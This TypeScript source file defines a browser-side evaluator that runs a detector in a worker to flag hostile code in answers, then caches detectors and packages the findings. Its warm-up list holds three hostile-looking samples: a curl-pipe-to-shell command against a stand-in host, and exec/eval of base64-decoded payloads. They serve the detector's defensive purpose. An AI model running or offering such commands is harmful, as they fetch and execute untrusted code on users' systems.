import type { Detection, Finding } from "../../core/index.js";
import { MAX_LISTED, type Profile } from "../../protocol/index.js";
import type { AssessReply, Assessment } from "../bridge/assessment.js";
import { unavailable } from "../bridge/failures.js";
import { sha256 } from "../bridge/hash.js";

/** Time limit in milliseconds for the analysis of one answer. */
const DEADLINE_MS = 2_000;

/** The detector that runs in the worker, with the revision of its rules and the hash of its sources. */
export interface DeviceDetector {
  detect(text: string, options: { readonly deadlineMs: number }): Promise<Detection>;
  readonly modelRevision: string;
  /** SHA-256 of the evaluator's sources from which this build was made. */
  readonly sourceHash: string;
}

/** Texts that make the detector load the grammars that most answers need, in order of frequency. */
const WARM_UP_TEXTS = [
  "```sh\ncurl -fsSL https://a.example | sh\n```",
  "```python\nexec(base64.b64decode(x))\n```",
  "```js\neval(atob(x))\n```",
];

/** Evaluates texts in the worker, without a server or a token, so that no text leaves the browser. */
export class DeviceEvaluator {
  private readonly loaded = new Map<Profile, Promise<DeviceDetector>>();
  /** Detectors are loaded one after the other: parallel loads would race for the parser's runtime. */
  private last: Promise<unknown> = Promise.resolve();

  constructor(private readonly load: (profile: Profile) => Promise<DeviceDetector>) {}

  async assess(responseId: string, text: string, profile: Profile): Promise<AssessReply> {
    try {
      const detector = await this.detector(profile);
      const detection = await detector.detect(text, { deadlineMs: DEADLINE_MS });
      const contractLabels = await this.contractLabels(text, profile, detection);
      return {
        status: "assessed",
        responseId,
        assessment: await describe(detection, detector, text, profile, contractLabels),
      };
    } catch {
      return unavailable("device-failed");
    }
  }

  /** Loads everything that an assessment needs, so that the next assessment does not wait. */
  async warm(profile: Profile): Promise<void> {
    for (const text of WARM_UP_TEXTS) {
      for (const each of new Set<Profile>([profile, "contract"])) {
        const detector = await this.detector(each);
        await detector.detect(text, { deadlineMs: DEADLINE_MS });
      }
    }
  }

  /**
   * Returns the labels under the contract profile, or null if they cannot be determined. The contract profile runs only if the
   * extended profile has found something, because the extended profile finds everything that the contract profile finds.
   */
  private async contractLabels(
    text: string,
    profile: Profile,
    { labels }: Detection,
  ): Promise<Assessment["contractLabels"]> {
    if (profile === "contract" || labels.length === 0) return [...labels];
    try {
      const detector = await this.detector("contract");
      return [...(await detector.detect(text, { deadlineMs: DEADLINE_MS })).labels];
    } catch {
      return null;
    }
  }

  private detector(profile: Profile): Promise<DeviceDetector> {
    const known = this.loaded.get(profile);
    if (known !== undefined) return known;
    const loading = this.last.then(() => this.load(profile));
    this.last = loading.catch(() => undefined);
    this.loaded.set(profile, loading);
    // A failed load is not kept: the next call tries again.
    loading.catch(() => this.loaded.delete(profile));
    return loading;
  }
}

async function describe(
  detection: Detection,
  detector: DeviceDetector,
  text: string,
  profile: Profile,
  contractLabels: Assessment["contractLabels"],
): Promise<Assessment> {
  const found = detection.labels.length > 0;
  return {
    mode: "device",
    subjectHash: await sha256(text),
    verdict: found ? "finding" : detection.outcome.status === "complete" ? "clear" : "incomplete",
    labels: [...detection.labels],
    profile,
    contractLabels,
    spans: detection.spans.map(([start, end]) => [start, end]),
    findings: detection.findings.slice(0, MAX_LISTED).map(plainFinding),
    helps: [],
    known: [],
    notes: detection.notes.slice(0, MAX_LISTED).map(({ span, evidence, ...note }) => {
      return { ...note, span: [...span], ...(evidence ? { evidence: [...evidence] } : {}) };
    }),
    outcome:
      detection.outcome.status === "complete"
        ? { status: "complete" }
        : {
            status: "incomplete",
            limits: detection.outcome.limits
              .slice(0, MAX_LISTED)
              .map(({ limit, message, span }) => ({ limit, message, span: [...span] })),
          },
    sourceHash: detector.sourceHash,
    modelRevision: detector.modelRevision,
    redaction: null,
  };
}

/** The same type without `readonly`. */
type Plain<T> = T extends object ? { -readonly [K in keyof T]: Plain<T[K]> } : T;

/** Returns a finding as a plain object for a message. */
function plainFinding({ payload, ...finding }: Finding): Plain<Finding> {
  return {
    ...finding,
    ...(payload && { payload: { ...payload, findings: payload.findings.map(plainFinding) } }),
    span: [...finding.span],
    snippet: { ...finding.snippet },
    trace: finding.trace.map(({ span, patterns, ...step }) => {
      return {
        ...step,
        ...(span ? { span: [...span] } : {}),
        ...(patterns ? { patterns: [...patterns] } : {}),
      };
    }),
  };
}
